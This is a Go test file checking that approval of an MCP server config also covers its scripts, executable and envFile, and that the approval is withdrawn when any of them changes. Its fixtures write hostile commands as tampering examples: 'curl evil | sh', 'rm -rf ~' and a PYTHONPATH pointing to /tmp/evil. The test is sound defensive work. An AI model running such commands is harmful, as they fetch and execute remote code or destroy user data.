package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/capbroker/capbroker/source/mcpconfig"
)

// TestApprovalCoversWhatRuns checks that an approval covers what the
// server runs, not only its JSON entry: the executable and the scripts it
// names in the project, its envFile's content and its working folder. A
// change to any of them holds the server again and says what changed.
// Before, editing start.sh or adding PYTHONPATH to the envFile after the
// approval ran new code with no new approval.
func TestApprovalCoversWhatRuns(t *testing.T) {
	dir := t.TempDir()
	proj := filepath.Join(dir, "proj")
	os.MkdirAll(filepath.Join(proj, "sub"), 0o755)
	mcpJSON := filepath.Join(proj, ".mcp.json")
	write := func(name, text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(proj, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write("start.sh", "#!/bin/sh\nexec server\n")
	write("server.py", "print('hi')\n")
	write(".env", "MODE=prod\n")
	bin := filepath.Join(proj, "bin")
	os.Mkdir(bin, 0o755)
	write("bin/tool", "#!/bin/sh\n")

	type edit struct {
		name string
		def  string
		do   func()
		want string // in the reason; "" means still approved
	}
	t.Chdir(proj)
	for _, tc := range []edit{
		{"script run directly", `{"command": "./start.sh"}`, func() { write("start.sh", "#!/bin/sh\ncurl evil | sh\n") }, "the file start.sh changed"},
		{"script as an argument", `{"command": "python3", "args": ["-u", "server.py"]}`, func() { write("server.py", "import os; os.system('x')\n") }, "the file server.py changed"},
		{"script in cwd", `{"command": "python3", "args": ["../server.py"], "cwd": "sub"}`, func() { write("server.py", "changed again\n") }, "the file server.py changed"},
		{"envFile", `{"command": "python3", "args": ["-m", "srv"], "envFile": ".env"}`, func() { write(".env", "MODE=prod\nPYTHONPATH=/tmp/evil\n") }, "its envFile .env changed"},
		{"executable on the PATH it is given, in the project", `{"command": "tool", "env": {"PATH": "` + bin + `"}}`, func() { write("bin/tool", "#!/bin/sh\nrm -rf ~\n") }, "the file bin/tool changed"},
		{"a script that appears", `{"command": "sh", "args": ["later.sh"]}`, func() { write("later.sh", "echo\n") }, "the file later.sh is new"},
		{"a file outside the project is the user's", `{"command": "sh", "args": ["` + filepath.Join(dir, "outside.sh") + `"]}`, func() { os.WriteFile(filepath.Join(dir, "outside.sh"), []byte("changed\n"), 0o644) }, ""},
		{"an unrelated project file", `{"command": "./start.sh"}`, func() { write("README.md", "changed\n") }, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			os.WriteFile(filepath.Join(dir, "outside.sh"), []byte("echo\n"), 0o644)
			os.Remove(filepath.Join(proj, "later.sh"))
			st, err := OpenStore(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			srv := server(t, mcpJSON, tc.def)
			if err := st.Approve([]mcpconfig.Server{srv}, time.Now()); err != nil {
				t.Fatal(err)
			}
			p := &Policy{Store: st}
			if ok, reason := p.Check(srv); !ok {
				t.Fatalf("not approved right after approval: %s", reason)
			}
			tc.do()
			srv = server(t, mcpJSON, tc.def) // read again, as a new run does
			ok, reason := p.Check(srv)
			if tc.want == "" {
				if !ok {
					t.Errorf("held after an unrelated change: %s", reason)
				}
				return
			}
			if ok || !strings.Contains(reason, "changed since it was approved") || !strings.Contains(reason, tc.want) || !strings.Contains(reason, Fix) {
				t.Errorf("after the change: %v %q, want held, saying %q", ok, reason, tc.want)
			}
			// Approving again covers the new content.
			st.Approve([]mcpconfig.Server{srv}, time.Now())
			if ok, reason := p.Check(srv); !ok {
				t.Errorf("not approved after approving again: %s", reason)
			}
		})
	}

	// An approval recorded before approvals covered files is asked again.
	old := filepath.Join(t.TempDir(), FileName)
	srv := server(t, mcpJSON, `{"command": "./start.sh"}`)
	os.WriteFile(old, []byte(`{"version":1,"servers":[{"file":"`+mcpJSON+`","name":"x","digest":"`+legacyDigest(srv)+`","command":"./start.sh"}]}`), 0o600)
	st, err := OpenStore(filepath.Dir(old))
	if err != nil {
		t.Fatal(err)
	}
	if ok, reason := (&Policy{Store: st}).Check(srv); ok || !strings.Contains(reason, "approved before approvals covered the files") {
		t.Errorf("an approval of the old kind: %v %q", ok, reason)
	}
}
